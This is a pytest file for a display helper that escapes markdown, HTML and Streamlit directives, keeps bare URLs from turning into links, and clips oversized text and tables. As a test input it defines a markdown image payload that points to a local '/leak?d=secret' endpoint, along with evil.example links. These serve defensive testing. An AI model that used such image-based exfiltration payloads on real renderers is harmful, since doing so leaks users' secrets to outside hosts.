"""Text from metric code and data files is shown literally: markdown, terminal, plotly, and bounded in size."""

from __future__ import annotations

import pandas as pd

from skynet_core.display import (
    WORD_JOINER,
    clipped,
    markdown_frame,
    markdown_text,
    plotly_text,
)

LEAK = "![x](http://127.0.0.1:9999/leak?d=secret)"


def test_markdown_text_escapes_images_links_html_and_streamlit_directives():
    shown = markdown_text(f"{LEAK} <img src=x> :red[big] $x$ `code` | a | b |")
    # Every punctuation character is escaped, so none of them can start markdown, HTML or a directive.
    for index, char in enumerate(shown):
        if char in "[]<>:$`|":
            assert shown[index - 1] == "\\", shown[: index + 1]


def test_markdown_text_keeps_bare_urls_and_addresses_from_becoming_links():
    shown = markdown_text("see http://evil.example/x, www.evil.example and me@evil.example")
    assert "http\\:" + WORD_JOINER in shown
    assert "www" + WORD_JOINER in shown
    assert "@" + WORD_JOINER in shown


def test_markdown_text_reads_the_same_once_rendered():
    text = "Expected 'billing', got 'other' (score: 0.5) — 100% [sic]"
    shown = markdown_text(text)
    # Rendering removes each backslash before a punctuation character.
    assert shown.replace("\\", "").replace(WORD_JOINER, "") == text


def test_clipped_text_says_how_much_was_left_out():
    assert clipped("a" * 10, 4) == "aaaa… (6 more characters)"
    assert clipped("short", 10) == "short"


def test_a_20000_column_markdown_table_costs_a_bounded_cell():
    huge = "| " + " | ".join(f"c{i}" for i in range(20_000)) + " |\n|" + "---|" * 20_000
    frame = markdown_frame(pd.DataFrame({"feedback": [huge], "score": [0.5]}, index=[LEAK]), limit=300)
    cell = frame.iloc[0, 0]
    assert len(cell) < 800 and "more characters" in cell and "| c1 |" not in cell
    assert frame.iloc[0, 1] == 0.5
    assert "![" not in frame.index[0]


def test_plotly_text_shows_html_as_text():
    assert plotly_text("<a href='http://x'>y</a> & b") == "&lt;a href='http://x'&gt;y&lt;/a&gt; &amp; b"


def test_markdown_text_escapes_block_starts_only_where_they_start_a_block():
    assert markdown_text("- item\n12. step\n---\n=== title") == "\\- item\n12\\. step\n\\---\n\\=== title"
    assert markdown_text("0.250\n-5 degrees\nTCK-4101 (example)") == "0.250\n-5 degrees\nTCK-4101 (example)"
